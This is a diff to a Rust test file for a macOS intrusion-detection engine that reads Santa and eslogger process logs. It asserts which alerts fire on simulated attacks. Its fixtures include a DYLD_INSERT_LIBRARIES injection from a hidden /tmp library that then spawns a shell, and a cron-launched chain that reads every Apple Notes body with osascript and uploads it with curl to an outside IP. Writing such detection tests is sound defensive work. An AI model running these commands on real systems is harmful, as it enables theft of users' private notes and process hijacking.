@@ -35,8 +35,12 @@ fn exec(second: u32, who: Who, args: &[&str], env: &[&str]) -> String {
 }
 
 fn alerts(lines: &[String]) -> Vec<Alert> {
+    alerts_of(Format::EsloggerJson, lines)
+}
+
+fn alerts_of(format: Format, lines: &[String]) -> Vec<Alert> {
     let mut engine = Engine::new(Catalog::builtin(), Policy::default(), Limits::default());
-    let stream = engine.open_stream(StreamOptions::new(Format::EsloggerJson));
+    let stream = engine.open_stream(StreamOptions::new(format));
     engine.feed_bytes(stream, lines.concat().as_bytes());
     engine.close_stream(stream);
     engine.flush();
@@ -66,6 +70,56 @@ fn a_strangers_library_in_an_application_that_then_runs_a_shell() {
     // A developer's library that Xcode injects.
     let tool = "/Applications/Xcode.app/Contents/Developer/usr/lib/libMainThreadChecker.dylib";
     assert_eq!(codes(&scenario(tool)), [] as [&str; 0]);
+}
+
+/// An execution as Santa reports it: arguments and variables are in base64.
+fn execution(second: u32, (pid, image, team, parent): Who, args: &[&str], env: &[&str]) -> String {
+    let id = |pid: u32| json!({"pid": pid, "pidversion": pid * 10});
+    let coded = |texts: &[&str]| texts.iter().map(|t| base64(t.as_bytes())).collect::<Vec<_>>();
+    let process = |path: &str| {
+        json!({
+            "id": id(pid), "parent_id": id(parent), "original_parent_pid": parent, "effective_user": {"uid": 501},
+            "executable": {"path": path}, "is_platform_binary": team == "apple",
+            "code_signature": {"team_id": team, "signing_id": "x"}, "cs_flags": 570_506_001,
+        })
+    };
+    let message = json!({
+        "machine_id": "mac-1", "event_time": format!("2026-03-02T09:00:{second:02}.5Z"),
+        "execution": {
+            "instigator": process("/bin/zsh"), "target": process(image), "args": coded(args), "envs": coded(env),
+            "decision": "DECISION_ALLOW",
+        },
+    });
+    message.to_string() + "\n"
+}
+
+fn base64(bytes: &[u8]) -> String {
+    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let four = |three: &[u8]| {
+        let bits = (0..3).fold(0_usize, |bits, at| bits << 8 | usize::from(three.get(at).copied().unwrap_or(0)));
+        let digit = |at: usize| if at <= three.len() { char::from(DIGITS[bits >> (18 - 6 * at) & 63]) } else { '=' };
+        (0..4).map(digit).collect::<String>()
+    };
+    bytes.chunks(3).map(four).collect()
+}
+
+#[test]
+fn a_library_that_santa_sees_inserted() {
+    let chat = (900, CHAT, "TEAM123456", STRANGER.0);
+    let scenario = |library: &str| {
+        [
+            execution(1, STRANGER, &["helper"], &[]),
+            execution(2, chat, &["Chatter"], &[&format!("DYLD_INSERT_LIBRARIES={library}")]),
+            execution(5, (901, "/bin/sh", "apple", 900), &["sh", "-c", "id"], &[]),
+        ]
+    };
+    let raised = |library| {
+        let loud = alerts_of(Format::SantaJson, &scenario(library)).into_iter().filter(|a| a.level >= Severity::Medium);
+        loud.map(|alert| alert.code).collect::<Vec<_>>()
+    };
+    assert_eq!(raised("/private/tmp/.x.dylib"), ["M10"]);
+    let tool = "/Applications/Xcode.app/Contents/Developer/usr/lib/libMainThreadChecker.dylib";
+    assert_eq!(raised(tool), [] as [&str; 0]);
 }
 
 #[test]
@@ -125,4 +179,22 @@ fn whoever_loaded_a_job_is_the_initiator_of_what_launchd_runs() {
     };
     assert_eq!(initiator("com.corp.sync").as_deref(), Some("/bin/bash"), "48 seconds after it was loaded");
     assert_ne!(initiator("com.corp.other").as_deref(), Some("/bin/bash"), "another job");
+}
+
+/// A daemon that started before the log: only the image that its children had before they became programs names it.
+#[test]
+fn a_daemon_that_only_its_forks_name() {
+    let from = |daemon: &'static str, (pid, image, team, parent): Who, args: &[&str]| {
+        exec(pid - 900, (pid, image, team, parent), args, &[]).replacen("/bin/zsh", daemon, 1)
+    };
+    let notes = "tell application \"Notes\" to get body of every note";
+    let scenario = |daemon: &'static str| {
+        [
+            from(daemon, (901, "/bin/sh", "apple", 320), &["sh", "-c", "/Users/ann/a.sh"]),
+            from("/bin/sh", (902, "/usr/bin/osascript", "apple", 901), &["osascript", "-e", notes]),
+            from("/bin/sh", (905, "/usr/bin/curl", "apple", 901), &["curl", "-T", "/tmp/n", "http://198.51.100.7/"]),
+        ]
+    };
+    assert_eq!(codes(&scenario("/usr/sbin/cron")), ["M24"]);
+    assert_eq!(codes(&scenario("/bin/zsh")), [] as [&str; 0]);
 }
